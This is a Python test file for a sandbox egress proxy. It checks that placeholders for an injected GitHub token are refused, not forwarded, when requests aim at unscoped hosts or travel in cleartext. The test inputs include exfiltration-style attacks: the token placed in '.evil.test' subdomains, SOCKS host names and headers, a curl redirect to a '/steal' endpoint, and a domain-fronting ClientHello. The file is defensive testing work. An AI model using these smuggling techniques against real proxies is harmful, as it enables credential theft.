"""Never silent: a placeholder of inject_secrets sent where the proxy does not replace it is
refused before a byte of it leaves, with a 403 (SOCKS 0x02) naming the secret and its hosts,
one decision-log line, and a ``[network]`` note; the value is in none of them.

In-process proxy on 127.0.0.1 with real servers; the hostile cases of the issue: a redirect
that carries the placeholder to a refused host (real curl), a CONNECT to an injected name by
its address, a ClientHello naming an injected host through another tunnel, a placeholder in a
SOCKS host name, in Proxy-Authorization, in a tunnel's cleartext first bytes.
"""

from __future__ import annotations

import base64
import ipaddress
import shutil
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
import trio
from hypothesis import given
from hypothesis import strategies as st

from tests.egress.egress_harness import (
    RunningProxy,
    map_resolver,
    open_connection,
    receive_all,
    receive_until,
    run_tool,
    running_proxy,
    serving_site,
    tool_environment,
)
from trio_sandbox.egress import EgressPolicy, EventLine, InjectedSecret, Injection, Verdict
from trio_sandbox.egress._client_hello import server_name
from trio_sandbox.tools._network_notes import NetworkNotes

VALUE = "ghp_R3alV4lue0fTheT0kenR3alV4lue0fTheT0"
PLACEHOLDER = "ghp_Pl4ceh0lderPl4ceh0lderPl4ceh0lderPl"
NAME = "GITHUB_TOKEN"
SCOPE = "api.github.test"
LOOPBACK = "127.0.0.1"
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")


async def _no_context(*args: object) -> ssl.SSLContext:
    raise AssertionError("interception is not asked for here")


def injection(*hosts: str) -> Injection:
    return Injection(
        (InjectedSecret(NAME, VALUE, PLACEHOLDER, hosts or (SCOPE,)),), _no_context, _no_context
    )


def assert_no_value(proxy: RunningProxy) -> None:
    for text in (proxy.lines(), proxy.log_lines, proxy.changes, proxy.stats.snapshot()):
        assert VALUE not in repr(text)


def the_refusal(proxy: RunningProxy) -> str:
    """The one refusal line naming the secret."""
    (line,) = [line for line in proxy.lines() if NAME in line]
    assert line.startswith("refused ")
    assert SCOPE in line
    return line


@asynccontextmanager
async def recording_server(answer: bytes = b"") -> AsyncIterator[tuple[int, list[bytes]]]:
    """A server on 127.0.0.1 that keeps what each connection sent it (and sends ``answer``
    once a request head came, then closes)."""
    received: list[bytes] = []
    (listener,) = await trio.open_tcp_listeners(0, host=LOOPBACK)

    async def handler(stream: trio.SocketStream) -> None:
        async with stream:
            index = len(received)
            received.append(b"")
            while data := await stream.receive_some(65536):
                received[index] += data
                if answer and b"\r\n\r\n" in received[index]:
                    await stream.send_all(answer)
                    return

    async with trio.open_nursery() as nursery:
        nursery.start_soon(trio.serve_listeners, handler, [listener])
        yield listener.socket.getsockname()[1], received
        nursery.cancel_scope.cancel()


async def exchange(port: int, data: bytes) -> bytes:
    async with await open_connection(port) as stream:
        await stream.send_all(data)
        return await receive_all(stream)


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


# --- plain http:// ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "fields", "where"),
    [
        (f"http://{SCOPE}/user", [f"Authorization: Bearer {PLACEHOLDER}"], "header Authorization"),
        ("http://other.test/", [f"Authorization: token {PLACEHOLDER}"], "header Authorization"),
        (f"http://other.test/bot{PLACEHOLDER}/getMe", [], "the request target"),
        (f"http://other.test/?t={PLACEHOLDER.replace('_', '%5f')}", [], "the request target"),
        ("http://other.test/", [f"Authorization: {basic('x', PLACEHOLDER)}"], "Basic credentials"),
        ("http://other.test/", [f"Proxy-Authorization: {basic(PLACEHOLDER, '')}"], "Basic"),
        ("http://unlisted.test/", [f"Cookie: t={PLACEHOLDER}"], "header Cookie"),
    ],
)
async def test_a_placeholder_in_a_plain_http_request_is_refused_naming_the_secret(
    target: str, fields: list[str], where: str
) -> None:
    async with recording_server() as (_, received):
        resolver = map_resolver({"other.test": [], SCOPE: []})
        policy = EgressPolicy.parse(["other.test", SCOPE])
        async with running_proxy(policy, resolver, injection=injection()) as proxy:
            lines = [f"GET {target} HTTP/1.1", "Host: x", *fields, "Connection: close"]
            started = NetworkNotes.now()
            answer = await exchange(proxy.port, ("\r\n".join(lines) + "\r\n\r\n").encode())
            notes = await NetworkNotes(f"127.0.0.1:{proxy.port}").since(started)
    assert received == []
    assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert b"X-Proxy-Error: secret-out-of-scope" in answer
    text = answer.decode()
    assert f"the placeholder of inject_secrets {NAME}" in text
    assert f"replaced only in https:// requests to {SCOPE} (never in cleartext)" in text
    assert where in the_refusal(proxy)
    assert VALUE not in text
    assert_no_value(proxy)
    # The [network] note of the command's result names it too.
    assert notes.startswith("[network] refused: ")
    assert f"inject_secrets {NAME}" in notes
    assert EventLine.parse(proxy.events[-1].public_line()) is not None
    assert len([line for line in proxy.log_lines if NAME in line]) == 1


async def test_a_request_without_a_placeholder_goes_on_as_before() -> None:
    no_content = b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"
    async with recording_server(no_content) as (port, received):
        policy = EgressPolicy.parse([f"other.test:{port}"])
        resolver = map_resolver({"other.test": [ipaddress.IPv4Address(LOOPBACK)]})
        async with running_proxy(policy, resolver, injection=injection()) as proxy:
            await exchange(
                proxy.port,
                f"GET http://other.test:{port}/{PLACEHOLDER[:-1]} HTTP/1.1\r\nHost: x\r\n"
                f"X-Near: {PLACEHOLDER[1:]}\r\nConnection: close\r\n\r\n".encode(),
            )
    assert received[0].startswith(f"GET /{PLACEHOLDER[:-1]} HTTP/1.1\r\n".encode())
    assert [event.verdict for event in proxy.events] == [Verdict.ALLOWED]


# --- CONNECT and SOCKS5 -----------------------------------------------------------------------


def socks_connect_name(name: str, port: int) -> bytes:
    raw = name.encode()
    return b"\x05\x01\x00" + bytes((5, 1, 0, 3, len(raw))) + raw + port.to_bytes(2, "big")


@pytest.mark.parametrize(
    "head",
    [
        f"CONNECT {PLACEHOLDER.lower()}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        "CONNECT other.test:443 HTTP/1.1\r\n"
        f"Proxy-Authorization: {basic('u', PLACEHOLDER)}\r\n\r\n",
        f"CONNECT other.test:443 HTTP/1.1\r\nX-Token: {PLACEHOLDER}\r\n\r\n",
    ],
)
async def test_a_placeholder_in_a_connect_request_is_refused(head: str) -> None:
    asked: list[str] = []

    async def resolver(name: str) -> list[ipaddress.IPv4Address]:
        asked.append(name)
        return [ipaddress.IPv4Address(LOOPBACK)]

    policy = EgressPolicy.parse(["other.test", "*.evil.test"])
    async with running_proxy(policy, resolver, injection=injection()) as proxy:
        answer = await exchange(proxy.port, head.encode())
    assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert f"inject_secrets {NAME}".encode() in answer
    assert "never in cleartext" not in answer.decode()
    the_refusal(proxy)
    assert asked == []  # refused before any name was resolved
    assert_no_value(proxy)


async def test_a_placeholder_in_a_socks_host_name_is_refused_with_0x02() -> None:
    asked: list[str] = []

    async def resolver(name: str) -> list[ipaddress.IPv4Address]:
        asked.append(name)
        return [ipaddress.IPv4Address(LOOPBACK)]

    policy = EgressPolicy.parse(["*.evil.test"])
    async with running_proxy(policy, resolver, injection=injection()) as proxy:
        for name in (f"{PLACEHOLDER}.evil.test", f"{PLACEHOLDER.upper()}.evil.test"):
            answer = await exchange(proxy.port, socks_connect_name(name, 443))
            assert answer == b"\x05\x00" + b"\x05\x02\x00\x01" + bytes(6)
    assert asked == []
    lines = [line for line in proxy.lines() if NAME in line]
    assert len(lines) == 2
    assert all("the host name carries the placeholder" in line for line in lines)
    assert_no_value(proxy)


async def test_connect_by_the_address_of_an_injected_name_is_refused_and_never_dialed() -> None:
    async with recording_server() as (port, received):
        resolver = map_resolver({"secure.test": [ipaddress.IPv4Address(LOOPBACK)]})
        # The address is allowed by an IP rule; the secret is scoped to the name on that port.
        policy = EgressPolicy.parse([f"{LOOPBACK}:{port}"])
        with_scope = injection(f"secure.test:{port}", SCOPE)
        async with running_proxy(policy, resolver, injection=with_scope) as proxy:
            answer = await exchange(
                proxy.port, f"CONNECT {LOOPBACK}:{port} HTTP/1.1\r\n\r\n".encode()
            )
            socks = await exchange(
                proxy.port,
                b"\x05\x01\x00\x05\x01\x00\x01"
                + ipaddress.IPv4Address(LOOPBACK).packed
                + port.to_bytes(2, "big"),
            )
    assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert b"X-Proxy-Error: injected-by-address" in answer
    assert f"an address of secure.test, where inject_secrets {NAME}".encode() in answer
    assert socks == b"\x05\x00\x05\x02\x00\x01" + bytes(6)
    assert received == []


async def test_an_address_that_is_itself_an_inject_entry_or_not_an_injected_name_passes() -> None:
    async with recording_server() as (port, received):
        resolver = map_resolver({"secure.test": [ipaddress.IPv4Address("127.0.0.9")]})
        policy = EgressPolicy.parse([f"{LOOPBACK}:{port}"])
        async with running_proxy(
            policy, resolver, injection=injection(f"secure.test:{port}")
        ) as proxy:
            async with await open_connection(proxy.port) as stream:
                await stream.send_all(f"CONNECT {LOOPBACK}:{port} HTTP/1.1\r\n\r\nping".encode())
                assert (await receive_until(stream, b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
                await stream.send_eof()
                await receive_all(stream)
            await proxy.wait_until_idle()
    assert received == [b"ping"]


def client_hello(name: str) -> bytes:
    outgoing = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@pytest.mark.parametrize(
    ("server_name_sent", "reason"),
    [
        (SCOPE, f"the TLS ClientHello names {SCOPE}"),
        # The client lower-cases it: found in any case.
        (
            f"{PLACEHOLDER.lower()}.evil.test",
            "the first data sent through the tunnel carries the placeholder",
        ),
    ],
)
async def test_a_client_hello_naming_an_injected_host_or_a_placeholder_is_refused(
    server_name_sent: str, reason: str
) -> None:
    async with recording_server() as (port, received):
        loopback = [ipaddress.IPv4Address(LOOPBACK)]
        resolver = map_resolver({"fronted.test": loopback, SCOPE: loopback})
        policy = EgressPolicy.parse([f"fronted.test:{port}"])
        async with running_proxy(policy, resolver, injection=injection(f"{SCOPE}:{port}")) as proxy:
            async with await open_connection(proxy.port) as stream:
                await stream.send_all(
                    f"CONNECT fronted.test:{port} HTTP/1.1\r\n\r\n".encode()
                    + client_hello(server_name_sent)
                )
                assert (await receive_all(stream)).startswith(b"HTTP/1.1 200")
            await proxy.wait_until_idle()
    assert received == [b""]  # dialed before the first bytes came: none of them went out
    assert reason in the_refusal(proxy)


async def test_a_placeholder_in_the_first_cleartext_bytes_of_a_tunnel_is_answered_403() -> None:
    async with recording_server() as (port, received):
        resolver = map_resolver({"plain.test": [ipaddress.IPv4Address(LOOPBACK)]})
        policy = EgressPolicy.parse([f"plain.test:{port}"])
        async with running_proxy(policy, resolver, injection=injection()) as proxy:
            async with await open_connection(proxy.port) as stream:
                await stream.send_all(f"CONNECT plain.test:{port} HTTP/1.1\r\n\r\n".encode())
                assert (await receive_until(stream, b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
                await stream.send_all(
                    f"GET / HTTP/1.1\r\nAuthorization: {basic('x', PLACEHOLDER)}\r\n\r\n".encode()
                )
                answer = await receive_all(stream)
            await proxy.wait_until_idle()
    assert received == [b""]
    assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert b"the Basic credentials of header Authorization" in answer
    assert_no_value(proxy)


async def test_a_tunnel_whose_server_speaks_first_is_not_held_back() -> None:
    (listener,) = await trio.open_tcp_listeners(0, host=LOOPBACK)
    port = listener.socket.getsockname()[1]

    async def banner(stream: trio.SocketStream) -> None:
        async with stream:
            await stream.send_all(b"SSH-2.0-test\r\n")
            assert await stream.receive_some(100) == PLACEHOLDER.encode()

    resolver = map_resolver({"ssh.test": [ipaddress.IPv4Address(LOOPBACK)]})
    policy = EgressPolicy.parse([f"ssh.test:{port}"])
    async with trio.open_nursery() as nursery:
        nursery.start_soon(trio.serve_listeners, banner, [listener])
        async with running_proxy(policy, resolver, injection=injection()) as proxy:
            stream = await open_connection(proxy.port)
            async with stream:
                await stream.send_all(f"CONNECT ssh.test:{port} HTTP/1.1\r\n\r\n".encode())
                answer = await receive_until(stream, b"SSH-2.0-test\r\n")
                assert answer.endswith(b"SSH-2.0-test\r\n")
                # The server spoke first: what follows is relayed unread (the proxy cannot
                # tell such a protocol's bytes apart; the README names this).
                await stream.send_all(PLACEHOLDER.encode())
                await stream.send_eof()
                await receive_all(stream)
        nursery.cancel_scope.cancel()


# --- the hostile redirect, with a real curl ---------------------------------------------------


@needs_curl
@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_a_redirect_does_not_carry_the_placeholder_to_a_refused_host(
    tmp_path: Path, scheme: str
) -> None:
    async with recording_server() as (trap_port, received), serving_site(tmp_path) as origins:
        loopback = [ipaddress.IPv4Address(LOOPBACK)]
        resolver = map_resolver({"secure.test": loopback, "blocked.test": loopback})
        policy = EgressPolicy.parse([f"secure.test:{origins.https}"])
        target = f"{scheme}://blocked.test:{trap_port}/steal"
        async with running_proxy(policy, resolver, injection=injection()) as proxy:
            result = await run_tool(
                [
                    "curl", "-sS", "-L", "--location-trusted", "--proxy", proxy.url,
                    "--cacert", str(origins.certificates.ca),
                    "-H", f"Authorization: Bearer {PLACEHOLDER}",
                    f"https://secure.test:{origins.https}/redirect?to={target}",
                ],
                tool_environment(tmp_path),
            )  # fmt: skip
    assert received == []  # nothing, not even a connection, reached the refused host
    refusal = next(event for event in proxy.events if event.refusal is not None)
    assert refusal.target == f"blocked.test:{trap_port}"
    if scheme == "http":
        # The placeholder rode in clear: refused naming the secret (even an unlisted host).
        assert f"inject_secrets {NAME}" in refusal.line()
        assert result.stdout.startswith(f"refused blocked.test:{trap_port} (header Authorization")
        assert f"inject_secrets {NAME}" in result.stdout
    else:
        # Inside TLS the proxy cannot see it: the host is refused by the policy.
        assert "not in allow_domains" in refusal.line()
        assert result.returncode != 0  # the CONNECT was answered 403
    assert_no_value(proxy)


# --- the ClientHello parser -------------------------------------------------------------------


def test_the_server_name_of_real_client_hellos() -> None:
    assert server_name(client_hello("api.github.test")) == "api.github.test"
    assert server_name(client_hello("a" * 60 + ".test")) == "a" * 60 + ".test"
    assert server_name(b"GET / HTTP/1.1\r\n\r\n") is None


@given(data=st.data())
def test_the_client_hello_parser_never_raises_on_hostile_bytes(data: st.DataObject) -> None:
    hello = bytearray(client_hello("fuzz.test"))
    for _ in range(data.draw(st.integers(0, 6))):
        at = data.draw(st.integers(0, len(hello) - 1))
        hello[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(hello)))
    name = server_name(bytes(hello[:cut]))
    assert name is None or isinstance(name, str)
    noise = server_name(data.draw(st.binary(max_size=300)))
    assert noise is None or isinstance(noise, str)
